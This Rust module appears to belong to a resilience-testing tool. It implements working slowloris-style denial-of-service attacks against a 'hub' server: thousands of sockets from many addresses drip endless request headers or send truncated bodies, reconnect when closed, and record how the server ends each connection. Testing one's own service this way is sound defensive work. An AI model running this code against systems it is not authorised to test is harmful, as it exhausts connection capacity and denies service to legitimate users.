//! slow-heads and slow-bodies: thousands of sockets that hold a connection open by sending a
//! request head a byte per second that never ends, or a body that never comes
//! (`Content-Length: 100`, 10 bytes sent). Each socket reconnects when the hub closes it, so
//! the pressure lasts the whole window; the sockets come from many addresses, more of them
//! than the hub has file descriptors.

use std::net::Ipv4Addr;
use std::sync::atomic::{AtomicI64, AtomicU64, Ordering};
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::sync::Semaphore;
use tokio::task::JoinSet;
use tokio::time::{interval, sleep, timeout, Instant, MissedTickBehavior};
use tokio_util::sync::CancellationToken;

use super::{kinds, AttackReport, Tally};
use crate::report::ms;
use crate::session::Target;
use crate::stats::Latency;

/// A byte of a never-ending head every this often: too slow to ever finish a head, fast
/// enough that a pure idle timeout never fires.
const DRIP: Duration = Duration::from_secs(1);

/// The pause after the hub closed (or refused) a socket before it reconnects: the attack
/// is about holding connections, not a connect flood (~1,900 sockets over a per-address
/// cap of 64 retry once a second, not four times).
const RECONNECT_PAUSE: Duration = Duration::from_secs(1);

/// One TCP connect's budget (with the hub's backlog full, SYNs are dropped and retried).
const CONNECT_TIMEOUT: Duration = Duration::from_secs(3);

/// Connects in flight at once: bounds the tool's own burst, not the attack's size.
const CONNECTS_IN_FLIGHT: usize = 512;

/// Which request the sockets never finish.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Kind {
    /// `GET /healthz` whose head grows by a byte per [`DRIP`] and never ends.
    Head,
    /// `POST /v1/webhooks/unifonic?token=x` announcing 100 bytes of body and sending 10.
    Body,
}

impl Kind {
    fn opening(self, host: &str) -> Vec<u8> {
        match self {
            Kind::Head => format!("GET /healthz HTTP/1.1\r\nHost: {host}\r\nX-Slow: ").into_bytes(),
            Kind::Body => format!(
                "POST /v1/webhooks/unifonic?token=x HTTP/1.1\r\nHost: {host}\r\n\
                 Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100\r\n\r\n\
                 status=abc"
            )
            .into_bytes(),
        }
    }
}

pub(super) struct Plan {
    target: Arc<Target>,
    ips: Vec<Ipv4Addr>,
    sockets: u32,
    kind: Kind,
}

#[derive(Default)]
struct Counters {
    attempts: AtomicU64,
    connected: AtomicU64,
    open: AtomicI64,
    peak_open: AtomicI64,
    connect_errors: Tally,
    /// How the hub ended a held connection: `eof`, `answered 408`, `read ConnectionReset`…
    ended: Tally,
    /// Connect → end by the hub, µs.
    held: Mutex<Latency>,
}

impl Plan {
    pub(super) fn new(target: Target, ips: Vec<Ipv4Addr>, sockets: u32, kind: Kind) -> Self {
        Self {
            target: Arc::new(target),
            ips,
            sockets,
            kind,
        }
    }

    pub(super) async fn run(self, cancel: CancellationToken) -> AttackReport {
        let counters = Arc::new(Counters::default());
        let permits = Arc::new(Semaphore::new(CONNECTS_IN_FLIGHT));
        let mut slots = JoinSet::new();
        for i in 0..self.sockets as usize {
            slots.spawn(slot(
                self.target.clone(),
                self.ips[i % self.ips.len()],
                self.kind,
                counters.clone(),
                permits.clone(),
                cancel.clone(),
            ));
        }
        while slots.join_next().await.is_some() {}
        self.report(&counters)
    }

    fn report(&self, c: &Counters) -> AttackReport {
        let held = c
            .held
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .summary();
        let connect_errors = c.connect_errors.snapshot();
        let ended = c.ended.snapshot();
        let open_at_end = c.open.load(Ordering::Relaxed);
        let peak_open = c.peak_open.load(Ordering::Relaxed);
        let attempts = c.attempts.load(Ordering::Relaxed);
        let connected = c.connected.load(Ordering::Relaxed);
        AttackReport {
            rows: vec![
                (
                    "attack sockets (slots) / addresses".into(),
                    format!("{} / {}", self.sockets, self.ips.len()),
                ),
                (
                    "attack connects attempted / TCP-connected".into(),
                    format!("{attempts} / {connected}"),
                ),
                ("attack connect errors".into(), kinds(&connect_errors)),
                ("attack connections ended by the hub".into(), kinds(&ended)),
                (
                    "attack held before the hub ended it p50 / max, ms".into(),
                    format!("{} / {}", ms(held.p50_us), ms(held.max_us)),
                ),
                (
                    "attack sockets open: peak / at the end".into(),
                    format!("{peak_open} / {open_at_end}"),
                ),
            ],
            json: json!({
                "kind": format!("{:?}", self.kind).to_lowercase(),
                "sockets": self.sockets,
                "addresses": self.ips.len(),
                "attempts": attempts,
                "connected": connected,
                "connect_errors": connect_errors,
                "ended_by_hub": ended,
                "held_before_end": held,
                "peak_open": peak_open,
                "open_at_end": open_at_end,
            }),
            checks: Vec::new(),
        }
    }
}

/// One attack socket: connect, hold, and when the hub ends it, connect again, until the
/// window is over.
async fn slot(
    target: Arc<Target>,
    ip: Ipv4Addr,
    kind: Kind,
    c: Arc<Counters>,
    permits: Arc<Semaphore>,
    cancel: CancellationToken,
) {
    while !cancel.is_cancelled() {
        c.attempts.fetch_add(1, Ordering::Relaxed);
        let connected = {
            let Ok(_permit) = permits.acquire().await else {
                return;
            };
            tokio::select! {
                () = cancel.cancelled() => return,
                result = timeout(CONNECT_TIMEOUT, target.connect(Some(ip))) => result,
            }
        };
        match connected {
            Ok(Ok(stream)) => {
                c.connected.fetch_add(1, Ordering::Relaxed);
                let open = c.open.fetch_add(1, Ordering::Relaxed) + 1;
                c.peak_open.fetch_max(open, Ordering::Relaxed);
                let started = Instant::now();
                let ended = hold(stream, kind, &target.host, &cancel).await;
                if let Some(how) = ended {
                    c.open.fetch_sub(1, Ordering::Relaxed);
                    c.ended.add(how);
                    c.held
                        .lock()
                        .unwrap_or_else(PoisonError::into_inner)
                        .record(started.elapsed().as_micros() as u64);
                }
            }
            Ok(Err(e)) => c.connect_errors.add(format!("{:?}", e.kind())),
            Err(_) => c
                .connect_errors
                .add(format!("no connect within {} s", CONNECT_TIMEOUT.as_secs())),
        }
        tokio::select! {
            () = cancel.cancelled() => return,
            () = sleep(RECONNECT_PAUSE) => {}
        }
    }
}

/// Holds one connection until the hub ends it (how) or the window ends (`None`: still open).
async fn hold(
    mut stream: TcpStream,
    kind: Kind,
    host: &str,
    cancel: &CancellationToken,
) -> Option<String> {
    let (mut reader, mut writer) = stream.split();
    if let Err(e) = writer.write_all(&kind.opening(host)).await {
        return Some(format!("write {:?}", e.kind()));
    }
    let mut drip = interval(DRIP);
    drip.set_missed_tick_behavior(MissedTickBehavior::Delay);
    drip.tick().await;
    let mut buf = [0u8; 256];
    loop {
        tokio::select! {
            () = cancel.cancelled() => return None,
            _ = drip.tick(), if kind == Kind::Head => {
                if let Err(e) = writer.write_all(b"a").await {
                    return Some(format!("write {:?}", e.kind()));
                }
            }
            read = reader.read(&mut buf) => return Some(match read {
                Ok(0) => "eof".to_string(),
                Ok(n) => answered(&buf[..n]),
                Err(e) => format!("read {:?}", e.kind()),
            }),
        }
    }
}

/// `answered 408` from the first bytes of a response.
fn answered(bytes: &[u8]) -> String {
    let text = String::from_utf8_lossy(bytes);
    match ["HTTP/1.1 ", "HTTP/1.0 "]
        .iter()
        .find_map(|version| text.strip_prefix(version))
    {
        Some(rest) => format!("answered {}", rest.get(..3).unwrap_or(rest)),
        None => "answered (not HTTP)".to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn answers_are_named_by_status() {
        assert_eq!(
            answered(b"HTTP/1.1 408 Request Timeout\r\n"),
            "answered 408"
        );
        assert_eq!(answered(b"HTTP/1.0 503"), "answered 503");
        assert_eq!(answered(b"\x00\x01"), "answered (not HTTP)");
    }

    #[test]
    fn a_slow_head_never_ends_and_a_slow_body_is_short() {
        let head = String::from_utf8(Kind::Head.opening("h:1")).unwrap();
        assert!(!head.contains("\r\n\r\n"));
        let body = String::from_utf8(Kind::Body.opening("h:1")).unwrap();
        let (head, sent) = body.split_once("\r\n\r\n").unwrap();
        assert!(head.contains("Content-Length: 100"));
        assert_eq!(sent.len(), 10);
    }
}
